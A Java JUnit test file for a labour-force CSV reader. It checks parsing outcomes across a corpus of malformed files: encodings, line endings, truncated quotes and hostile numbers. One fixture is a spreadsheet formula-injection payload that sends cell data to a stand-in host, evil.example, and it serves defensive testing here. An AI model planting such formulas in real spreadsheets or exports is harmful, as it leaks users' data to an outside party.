package ma.observatory.csv;

import static ma.observatory.csv.CsvTestSupport.LABOUR_FORCE;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.batch.infrastructure.item.ExecutionContext;

import ma.observatory.employment.LabourForceRecord;
import ma.observatory.period.Period;

/**
 * Regression tests over {@code src/test/resources/corpus/}: each file, read as
 * {@code employment/labour_force.csv}, has its own expected outcome.
 */
class CorpusTest {

    @TempDir
    Path dir;

    /** What reading one file gave: its dialect and rows, or the sentence that stopped the run. */
    record Outcome(CsvDialect dialect, List<String> unknownColumns, List<Parsed<LabourForceRecord>> rows,
                   InputContractException failure) {

        Parsed<LabourForceRecord> row(int i) {
            return rows.get(i);
        }

        LabourForceRecord kept(int i) {
            assertThat(rows.get(i).rejects()).as("rejects of line %d", rows.get(i).line()).isEmpty();
            return rows.get(i).item();
        }

        List<Long> lines() {
            return rows.stream().map(Parsed::line).toList();
        }

        void readsWithoutFailure() {
            assertThat(failure).as("failure").isNull();
        }

        void failsWith(String... parts) {
            assertThat(failure).as("failure").isNotNull();
            assertThat(failure.getMessage()).contains(LABOUR_FORCE).contains(parts);
        }

        void rejected(int i, String column, String value, String reason) {
            assertThat(rows.get(i).rejects()).as("line %d", rows.get(i).line()).singleElement().satisfies(p -> {
                assertThat(p.column()).isEqualTo(column);
                assertThat(p.value()).isEqualTo(value);
                assertThat(p.reason()).contains(reason);
            });
        }
    }

    private static final Map<String, Consumer<Outcome>> EXPECTED = new LinkedHashMap<>();

    private static void expect(String file, Consumer<Outcome> expectation) {
        EXPECTED.put(file, expectation);
    }

    static {
        expect("excel-french-export-semicolon-decimal-comma-cp1252.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.dialect()).isEqualTo(new CsvDialect(';', CsvDialect.WINDOWS_1252, false, true));
            assertThat(o.lines()).containsExactly(2L, 3L); // line 4, separators only, is blank
            assertThat(o.kept(0).population()).isEqualTo(27834.5);
            assertThat(o.kept(0).underemployed()).isEqualTo(1050.3);
            assertThat(o.kept(0).source()).isEqualTo("Enquête nationale sur l'emploi – HCP");
            assertThat(o.kept(1).period()).isEqualTo(Period.quarter(2024, 1));
            assertThat(o.kept(1).labourForce()).isEqualTo(456.7);
            assertThat(o.kept(1).underemployed()).isNull();
            assertThat(o.kept(1).source()).isEqualTo("Enquête emploi, été");
        });
        expect("windows-1252-accents.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.dialect()).isEqualTo(new CsvDialect(',', CsvDialect.WINDOWS_1252, false, false));
            assertThat(o.kept(0).source()).isEqualTo("Haut-Commissariat au Plan – enquête « emploi », révisée");
            assertThat(o.kept(1).source()).isEqualTo("Œuvre d’évaluation à Fès – coût 12 €");
        });
        expect("bom-plus-semicolons.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.dialect()).isEqualTo(new CsvDialect(';', StandardCharsets.UTF_8, true, true));
            assertThat(o.unknownColumns()).isEmpty();
            assertThat(o.kept(0).period()).isEqualTo(Period.year(2024)); // the first header, right after the BOM
            assertThat(o.kept(0).labourForce()).isEqualTo(50.5);
            assertThat(o.kept(0).source()).isEqualTo("Enquête nationale sur l’emploi");
        });
        expect("header-trailing-spaces-odd-case.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.unknownColumns()).isEmpty();
            assertThat(o.kept(0).unemployed()).isEqualTo(5.0);
            assertThat(o.kept(0).source()).isEqualTo("HCP");
        });
        expect("header-only.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.rows()).isEmpty();
        });
        expect("empty-file.csv", o -> o.failsWith("is empty", "its first line must be the header"));
        expect("bom-only.csv", o -> o.failsWith("is empty"));
        expect("duplicated-header-names.csv", o -> o.failsWith("'employed'", "twice", "line 1"));
        expect("trailing-separator-every-line.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.unknownColumns()).isEmpty();
            assertThat(o.lines()).containsExactly(2L, 3L);
            assertThat(o.kept(0).source()).isEqualTo("HCP");
            assertThat(o.kept(1).population()).isEqualTo(60.0);
        });
        expect("crlf-line-endings.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.lines()).containsExactly(2L, 4L);
            assertThat(o.kept(0).source()).isEqualTo("HCP"); // no CR left at the end of the last value
        });
        expect("mixed-line-endings.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.lines()).containsExactly(2L, 4L, 5L);
            assertThat(o.rows()).noneMatch(Parsed::rejected);
        });
        expect("quoted-field-with-newline.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.lines()).containsExactly(2L, 4L);
            assertThat(o.kept(0).source()).isEqualTo("HCP\nENE 2024");
        });
        expect("truncated-inside-quote.csv", o -> {
            o.failsWith("is damaged at line 3 ", "quoted field that opens on line 3 is never closed");
            assertThat(o.lines()).containsExactly(2L);
        });
        expect("utf8-cut-inside-a-character.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.dialect().charset()).isEqualTo(StandardCharsets.UTF_8);
            assertThat(o.kept(0).source()).isEqualTo("Enquête");
            assertThat(o.kept(1).source()).isEqualTo("Fès-Mekn\uFFFD");
            assertThat(o.row(1).warnings()).singleElement().satisfies(w -> {
                assertThat(w.column()).isEqualTo("source");
                assertThat(w.reason()).contains("not valid UTF-8").contains("cut short");
            });
        });
        expect("text-after-closing-quote.csv", o -> {
            o.failsWith("is damaged at line 3 ", "text follows the closing quote");
            assertThat(o.lines()).containsExactly(2L);
        });
        expect("utf16-excel-unicode-text.csv", o -> o.failsWith("UTF-16", "CSV UTF-8"));
        expect("utf16-without-byte-order-mark.csv", o -> o.failsWith("NUL characters", "line 1", "UTF-16"));
        expect("xls-renamed-to-csv.csv", o -> o.failsWith("old Excel workbook (.xls)", "CSV UTF-8"));
        expect("xlsx-renamed-to-csv.csv", o -> o.failsWith("Excel workbook (.xlsx)", "CSV UTF-8"));
        expect("formula-looking-values.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.kept(0).source()).isEqualTo("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"HCP\")");
            assertThat(o.kept(1).source()).isEqualTo("-Ambiguous");
            assertThat(o.kept(2).source()).isEqualTo("+212 522 00 00 00");
            assertThat(o.kept(3).source()).isEqualTo("@SUM(A1:A9)");
            o.rejected(4, "population", "=1+1", "not a number");
        });
        expect("hostile-numbers.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.lines()).containsExactly(2L, 3L, 4L, 5L, 6L, 7L, 8L, 9L, 10L);
            o.rejected(0, "population", "1e400", "not a number");
            o.rejected(1, "population", "NaN", "not a number");
            assertThat(o.kept(2).underemployed()).isEqualTo(0.0).matches(d -> Double.doubleToRawLongBits(d) == 0);
            o.rejected(3, "population", "1 234,5", "not a number"); // a comma file has no decimal comma
            assertThat(o.kept(4).population()).isEqualTo(1234.5);
            o.rejected(5, "population", "Infinity", "not a number");
            o.rejected(6, "population", "0x1F", "not a number");
            o.rejected(7, "employed", "-45", "negative");
            // kept as a double it would read 9223372036854776000: changed without a word
            o.rejected(8, "population", "9223372036854775808", "more than 15 digits before the decimal mark");
        });
        expect("separators-only-rows.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.lines()).containsExactly(2L, 5L);
            assertThat(o.rows()).noneMatch(Parsed::rejected);
        });
        expect("short-and-long-rows.csv", o -> {
            o.readsWithoutFailure();
            o.rejected(0, "", "", "the line has 10 fields but the header has 11");
            o.rejected(1, "", "provisional", "the line has 12 fields but the header has 11");
            assertThat(o.kept(2).source()).isEqualTo("HCP"); // empty surplus fields are tolerated
            // a note under the data: one field, said in the singular and for what it likely is
            o.rejected(3, "", "", "the line has a single field but the header has 11 (no separator: a note or a title");
        });
        expect("nul-bytes.csv", o -> {
            o.readsWithoutFailure();
            assertThat(o.kept(0).source()).isEqualTo("HCP\u0000ENE");
            o.rejected(1, "population", "6\u00000", "not a number");
        });
    }

    static Stream<Arguments> corpus() {
        return EXPECTED.entrySet().stream().map(e -> Arguments.of(e.getKey(), e.getValue()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void eachFileHasItsOutcome(String file, Consumer<Outcome> expectation) {
        expectation.accept(read(file));
    }

    private Outcome read(String corpusFile) {
        CsvTestSupport.write(dir, LABOUR_FORCE, resource(corpusFile));
        CsvDialect dialect;
        List<String> unknown;
        try (CsvFile file = CsvFile.open(dir, ma.observatory.employment.LabourForceDataset.INSTANCE)) {
            dialect = file.dialect();
            unknown = file.unknownColumns();
        } catch (InputContractException e) {
            return new Outcome(null, List.of(), List.of(), e);
        }
        var reader = CsvTestSupport.labourForceReader(dir);
        List<Parsed<LabourForceRecord>> rows = new ArrayList<>();
        try {
            reader.open(new ExecutionContext());
            Parsed<LabourForceRecord> p;
            while ((p = reader.read()) != null) {
                rows.add(p);
            }
        } catch (InputContractException e) {
            return new Outcome(dialect, unknown, rows, e);
        } finally {
            reader.close();
        }
        return new Outcome(dialect, unknown, rows, null);
    }

    private static byte[] resource(String name) {
        try (InputStream in = CorpusTest.class.getResourceAsStream("/corpus/" + name)) {
            assertThat(in).as("corpus/%s", name).isNotNull();
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The checked-in files hold exactly the bytes {@link CorpusFiles} describes. */
    @Test
    void checkedInFilesHoldTheirExactBytes() {
        for (Map.Entry<String, byte[]> e : CorpusFiles.all().entrySet()) {
            assertThat(resource(e.getKey())).as(e.getKey()).isEqualTo(e.getValue());
        }
    }

    /** Every file of the corpus has an expected outcome, and every outcome a file. */
    @Test
    void everyCorpusFileHasAnExpectedOutcome() throws IOException, URISyntaxException {
        Path corpus = Path.of(CorpusTest.class.getResource("/corpus").toURI());
        List<String> names;
        try (Stream<Path> files = Files.list(corpus)) {
            names = files.map(p -> p.getFileName().toString()).filter(n -> n.endsWith(".csv")).sorted().toList();
        }
        assertThat(names).containsExactlyInAnyOrderElementsOf(EXPECTED.keySet());
        assertThat(CorpusFiles.all().keySet()).containsExactlyInAnyOrderElementsOf(EXPECTED.keySet());
    }
}
